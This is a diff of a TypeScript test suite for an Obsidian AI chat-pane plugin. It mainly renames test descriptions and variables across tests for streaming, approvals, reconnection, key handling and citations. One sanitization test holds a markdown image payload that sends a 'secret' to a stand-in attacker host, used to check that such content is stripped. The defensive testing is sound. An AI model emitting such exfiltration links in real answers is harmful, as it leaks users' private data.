@@ -22,7 +22,7 @@ afterEach(async () => {
 describe("an answer", () => {
   beforeEach(() => start());
 
-  it("shows what is done while it is done, then the tokens as they come, then all of it as Markdown", async () => {
+  it("shows steps and tokens live, then the answer as Markdown", async () => {
     const [searching, writing, ending] = [gate(), gate(), gate()];
     rendered.length = 0;
     await pane.ask(
@@ -39,7 +39,7 @@ describe("an answer", () => {
     );
     await pane.says("Searching the vault for “rocket”");
     expect(pane.find(".turnwire-step").classList.contains("is-running")).toBe(true);
-    const [reasoning] = pane.all("details").filter((one) => one.textContent.startsWith("Reasoning"));
+    const [reasoning] = pane.all("details").filter((element) => element.textContent.startsWith("Reasoning"));
     expect([reasoning?.textContent, reasoning?.hasAttribute("open")]).toEqual(["ReasoningWhere might it be?", false]);
     await open(searching);
     await pane.shows("That is ");
@@ -52,20 +52,20 @@ describe("an answer", () => {
     await open(ending);
     await pane.isDone();
     expect(rendered.at(-1)).toBe("It **launches** on Friday.\n\nThat is soon.");
-    expect(pane.all(".turnwire-blocks p").map((one) => one.textContent)).toEqual([
+    expect(pane.all(".turnwire-blocks p").map((element) => element.textContent)).toEqual([
       "It **launches** on Friday.",
       "That is soon.",
     ]);
   });
 
-  it("says what went wrong, and keeps what was written", async () => {
+  it("shows the error and keeps the partial answer", async () => {
     await pane.ask(script(["say", "So far so good"], ["fail", "The oven is on fire."]));
     await pane.isDone();
     expect(pane.find("[role=alert]").textContent).toBe("The oven is on fire.");
     expect(pane.answer).toBe("So far so good");
   });
 
-  it("stops when it is told to, on the server too", async () => {
+  it("stops on the server", async () => {
     const never = gate();
     await pane.ask(script(["say", "One "], ["wait", never], ["say", "two"]));
     await pane.shows("One ");
@@ -77,11 +77,11 @@ describe("an answer", () => {
     expect((await get(`/v1/sessions/${session}`)).turns[0].outcome).toBe("cancelled");
   });
 
-  it("asks before it writes, with the exact arguments, and is told of the decision", async () => {
+  it("requests approval with the exact arguments", async () => {
     const args = { path: "Notes/New.md", content: "- <b>one</b>\n- two" };
     await pane.ask(script(["ask", "create_note", args], ["say", "Done."]));
     await pane.says("Waiting for your decision");
-    const shown = pane.all(".turnwire-argument").map((one) => one.textContent);
+    const shown = pane.all(".turnwire-argument").map((element) => element.textContent);
     expect(shown).toEqual([args.path, args.content]);
     expect(pane.all(".turnwire-argument b")).toEqual([]);
     pane.button("Allow").click();
@@ -93,7 +93,7 @@ describe("an answer", () => {
     await pane.shows("denied Done.");
   });
 
-  it("goes on when the pane is closed, and is there, and live, when it is opened again", async () => {
+  it("continues while the pane is closed, and is live when it is reopened", async () => {
     const [closed, live, end] = [gate(), gate(), gate()];
     await pane.ask(
       script(["say", "One "], ["wait", closed], ["say", "two "], ["wait", live], ["say", "three "], ["wait", end], ["say", "four"]),
@@ -115,7 +115,7 @@ describe("an answer", () => {
     expect(pane.all(".turnwire-turn").length).toBe(1);
   });
 
-  it("is made harmless before Obsidian renders it, in pieces and as a whole", async () => {
+  it("is sanitized before Obsidian renders it, in blocks and complete", async () => {
     const wait = gate();
     rendered.length = 0;
     await pane.ask(script(["say", "![x](https://evil.example/?q=secret)\n\n<img src=x>"], ["wait", wait]));
@@ -126,20 +126,20 @@ describe("an answer", () => {
     for (const markdown of rendered) expect(markdown).not.toMatch(/!\[|<img/);
   });
 
-  it("is shown live also if the question was asked elsewhere", async () => {
+  it("is shown live if another client started the turn", async () => {
     await pane.ask(script(["say", "Hello"]));
     await pane.isDone();
     const wait = gate();
     const session_id = obsidian.plugin.settings.sessions[""];
-    const asked = post("/chat", { message: script(["say", "From afar"], ["wait", wait]), agent: "play", session_id });
+    const response = post("/chat", { message: script(["say", "From afar"], ["wait", wait]), agent: "play", session_id });
     await pane.shows("From afar");
     expect(pane.all(".turnwire-turn").length).toBe(2);
     await open(wait);
-    await asked;
+    await response;
     await pane.isDone();
   });
 
-  it("waits its turn when another is being written, and only one can be begun twice", async () => {
+  it("is queued while another turn runs", async () => {
     const wait = gate();
     await pane.ask(script(["say", "First"], ["wait", wait]));
     await pane.shows("First");
@@ -153,7 +153,7 @@ describe("an answer", () => {
 });
 
 describe("the connection", () => {
-  it("is mended by itself, and nothing is doubled or lost", async () => {
+  it("is restored without losing or repeating events", async () => {
     const wire = await Wire.lay();
     await start({}, { url: wire.url });
     const gates = [gate(), gate(), gate(), gate()];
@@ -169,14 +169,14 @@ describe("the connection", () => {
     await wire.cut({ stay: true });
   });
 
-  it("says that it is lost, and what happened meanwhile is there when it is back", async () => {
+  it("is reported as lost, and later events are shown after it returns", async () => {
     const wire = await Wire.lay();
     await start({}, { url: wire.url });
     const wait = gate();
     await pane.ask(script(["say", "One "], ["wait", wait], ["say", "two"]));
     await pane.shows("One ");
     await wire.cut({ stay: true });
-    await pane.says("The connection is lost");
+    await pane.says("Connection lost");
     await open(wait);
     await wire.mend();
     await pane.shows("One two");
@@ -184,7 +184,7 @@ describe("the connection", () => {
     await wire.cut({ stay: true });
   });
 
-  it("is tried again when the server was not there to begin with, and what was typed stays", async () => {
+  it("is retried when the server was unreachable at start, and keeps the typed text", async () => {
     const wire = await Wire.lay();
     await wire.cut({ stay: true });
     obsidian = await startObsidian({}, { url: wire.url });
@@ -196,7 +196,7 @@ describe("the connection", () => {
     await wire.cut({ stay: true });
   });
 
-  it("falls back to whole answers, and says so, where the server does not allow Obsidian's origin", async () => {
+  it("falls back to polling, with a notice, if the server does not allow Obsidian's origin", async () => {
     const streams = vi.spyOn(globalThis, "fetch").mockRejectedValue(new TypeError("Failed to fetch"));
     await start();
     await pane.isReady();
@@ -222,14 +222,14 @@ describe("the connection", () => {
     expect(tab.containerEl.textContent).toContain("Test connection");
   });
 
-  it("shows the key to the server alone, and keeps it out of the vault", async () => {
+  it("sends the key to the server only, and keeps it out of the vault", async () => {
     obsidian = await startObsidian({}, { secret: "turnwire-key" });
     obsidian.app.secretStorage.setSecret("turnwire-key", "twk_sesame");
-    const asked = vi.spyOn(globalThis, "fetch");
+    const fetched = vi.spyOn(globalThis, "fetch");
     pane = await Pane.open(obsidian);
     await pane.ask(script(["say", "Hello"]));
     await pane.isDone();
-    const headers = asked.mock.calls.map(([, init]) => (init?.headers as Record<string, string>)["Authorization"]);
+    const headers = fetched.mock.calls.map(([, init]) => (init?.headers as Record<string, string>)["Authorization"]);
     expect(new Set(headers)).toEqual(new Set(["Bearer twk_sesame"]));
     expect(JSON.stringify(await obsidian.plugin.loadData())).not.toContain("sesame");
   });
@@ -238,7 +238,7 @@ describe("the connection", () => {
 describe("conversations", () => {
   const files = { "A.md": "a", "Folder/B.md": "b" };
 
-  it("belong to their notes, move with them, and name them once", async () => {
+  it("belong to notes, move with them, and name them once", async () => {
     await start(files, { scope: "note" });
     const look = async (path: string): Promise<void> => {
       const file = obsidian.app.vault.getFileByPath(path);
@@ -266,7 +266,7 @@ describe("conversations", () => {
     await pane.shows("About B");
   });
 
-  it("go on where another device has left them", async () => {
+  it("continue from another device", async () => {
     await start(files);
     const elsewhere = await startObsidian(files);
     const other = await Pane.open(elsewhere);
@@ -279,7 +279,7 @@ describe("conversations", () => {
     await other.close();
   });
 
-  it("are begun anew on request, and the old one stays on the server", async () => {
+  it("are started on request, and the old one stays on the server", async () => {
     await start(files);
     await pane.ask(script(["say", "Old"]));
     await pane.isDone();
@@ -304,7 +304,7 @@ describe("citations", () => {
     const leaf = WorkspaceLeaf.create2__(obsidian.app);
     const opened = vi.spyOn(leaf, "openFile");
     vi.spyOn(obsidian.app.workspace, "getLeaf").mockReturnValue(leaf);
-    expect(pane.all(".turnwire-source").map((one) => one.textContent)).toEqual(["1 Plan"]);
+    expect(pane.all(".turnwire-source").map((element) => element.textContent)).toEqual(["1 Plan"]);
     pane.find(".turnwire-marker").click();
     await until(() => expect(opened).toHaveBeenCalled());
     const [file, state] = opened.mock.calls[0]!;
@@ -313,7 +313,7 @@ describe("citations", () => {
     expect(text.slice(from, to)).toBe("The rocket launches\non Friday.");
   });
 
-  it("of the server's own vault agent name notes of this vault", async () => {
+  it("of the server's vault agent open notes of this vault", async () => {
     await start({ "Projects/Moon Rocket.md": "The rocket launches on Friday at noon." }, { agent: "vault" });
     await pane.ask("When does the rocket launch?");
     await pane.isDone();
@@ -325,7 +325,7 @@ describe("citations", () => {
     await until(() => expect(opened.mock.calls[0]?.[0].path).toBe("Projects/Moon Rocket.md"));
   });
 
-  it("of a note that is not here say so", async () => {
+  it("of a missing note show a notice", async () => {
     await start();
     const notice = vi.spyOn(Notice.prototype, "constructor__");
     await pane.ask(script(["say", "On Friday [1]."], ["cite", 1, "Gone.md", "Gone."]));
@@ -335,7 +335,7 @@ describe("citations", () => {
   });
 });
 
-it("a link to a note is followed", async () => {
+it("a link to a note opens the note", async () => {
   await start();
   await pane.ask(script(["say", "See this."]));
   await pane.isDone();
@@ -344,7 +344,7 @@ it("a link to a note is followed", async () => {
   expect(followed).toHaveBeenCalledWith("Plan#Next", "", false);
 });
 
-it("an answer is copied, and inserted into the note that was used last", async () => {
+it("an answer can be copied, and inserted into the last used note", async () => {
   await start();
   await pane.ask(script(["say", "Take this."]));
   await pane.isDone();
